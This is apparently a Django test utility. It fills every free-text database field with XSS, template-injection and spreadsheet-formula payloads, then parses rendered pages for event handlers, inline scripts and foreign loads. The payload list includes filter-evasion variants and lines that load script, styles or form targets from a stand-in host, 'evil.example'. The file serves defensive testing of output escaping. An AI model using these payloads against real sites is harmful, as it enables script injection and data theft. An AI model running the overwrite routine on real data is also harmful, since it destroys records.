"""Hostile texts, written into everything that people can fill, and what to look for in a page that shows them."""

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import count
from typing import Any

from django.apps import apps
from django.db import IntegrityError, models, transaction

POLYGLOT = "'\"></title></textarea></option></script><img src=x onerror=__xss=1><svg/onload=__xss=1>"
PAYLOADS = (
    "<script>__xss=1</script>",
    "<ScRiPt>__xss=1</sCrIpT>",
    "</script><script>__xss=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>__xss=1</script>",
    "<img src=x onerror=__xss=1>",
    '"><img src=x onerror=__xss=1>',
    "'><img src=x onerror=__xss=1>",
    '<img src=x onerror="__xss=1"//',
    "<img/src/onerror=__xss=1>",
    "<svg onload=__xss=1>",
    "<svg><script>__xss=1</script></svg>",
    "<svg><animate onbegin=__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:__xss=1>x</a></svg>",
    "<math><mtext><script>__xss=1</script>",
    "<body onload=__xss=1>",
    "<input autofocus onfocus=__xss=1>",
    '" autofocus onfocus=__xss=1 x="',
    "' autofocus onfocus=__xss=1 x='",
    "x onmouseover=__xss=1",
    "<details open ontoggle=__xss=1>",
    "<video><source onerror=__xss=1></video>",
    "<audio src=x onerror=__xss=1>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<object data=javascript:__xss=1>",
    "<embed src=javascript:__xss=1>",
    "<a href=javascript:__xss=1>x</a>",
    "javascript:__xss=1",
    "JaVaScRiPt:__xss=1//",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss=1'>",
    "<style>@import'//evil.example/x.css'</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:__xss=1>x</button>",
    "</textarea><script>__xss=1</script>",
    "</title><script>__xss=1</script>",
    "</option></select><script>__xss=1</script>",
    "</style><script>__xss=1</script>",
    "--><script>__xss=1</script>",
    "]]><script>__xss=1</script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${__xss=1}#{__xss=1}<%= __xss=1 %>",
    "\\u003cscript\\u003e__xss=1\\u003c/script\\u003e",
    "&lt;script&gt;__xss=1&lt;/script&gt;",
    "＜script＞__xss=1＜/script＞",
    "+ADw-script+AD4-__xss=1+ADw-/script+AD4-",
    "<x-xss>\u202egnp.exe\u200b</x-xss>",
    POLYGLOT,
)
SHORT = "\"'><b onclick=1>"
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)")

KEYS = {"search_key", "name_key", "sort_key", "symbol_key"}
KEPT = {
    "path",
    "code",
    "sha256",
    "content_type",
    "rule",
    "password",
    "phone",
    "phone2",
    "tax_code",
    "language",
}
KEPT_MODELS = {"HamletCounter", "TeamCounter", "Register", "RuleSet"}
"""Fields that nobody types or whose form the code relies on."""


def text_fields(model: Any) -> list[Any]:
    """The fields of a model that take free text."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.FileField)
        and not field.choices
        and field.name not in KEYS | KEPT
    ]


def fitting(texts: tuple[str, ...], number: int, longest: int | None) -> str:
    """The text of that number, or the next one that is short enough for the field."""
    for step in range(len(texts)):
        text = texts[(number + step) % len(texts)]
        if longest is None or len(text) <= longest:
            return text
    return SHORT[:longest]


def spoil(texts: tuple[str, ...]) -> int:
    """Write hostile texts into every text of every row, each row another one; how many texts were written."""
    written, numbers = 0, count()
    for room in ("common", "areas", "accounts", "teams"):
        for model in apps.get_app_config(room).get_models():
            if model.__name__.startswith("Historical") or model.__name__ in KEPT_MODELS:
                continue
            fields = text_fields(model)
            for pk in model._default_manager.order_by("pk").values_list("pk", flat=True):
                number = next(numbers)
                values = {one.name: fitting(texts, number, one.max_length) for one in fields}
                values.pop("username", None)
                written += _write(model, pk, values)
    return written


def _write(model: Any, pk: Any, values: dict[str, str]) -> int:
    """All values at once; where two rows may not be alike, one by one."""
    written = 0
    for name, text in values.items():
        try:
            with transaction.atomic():
                written += model._default_manager.filter(pk=pk).update(**{name: text})
        except IntegrityError:
            continue
    return written


class _Dangers(HTMLParser):
    """Collects what our own pages never hold: handlers, inline scripts and styles, foreign frames."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        of = dict(attrs)
        if tag in {
            "iframe",
            "object",
            "embed",
            "math",
            "base",
            "style",
            "animate",
            "video",
            "audio",
            "x-xss",
        }:
            self.found.append(f"<{tag}>")
        if tag == "script" and not of.get("src") and of.get("type") != "application/json":
            self.found.append("<script> without src")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            elif name in {"href", "src", "action", "formaction", "xlink:href", "data"} and (
                text.startswith(("javascript:", "data:text", "//"))
            ):
                self.found.append(f"<{tag} {name}={text[:40]}>")


def dangers(html: str) -> Iterator[str]:
    """What would run or load something foreign in this page."""
    reader = _Dangers()
    reader.feed(html)
    yield from reader.found
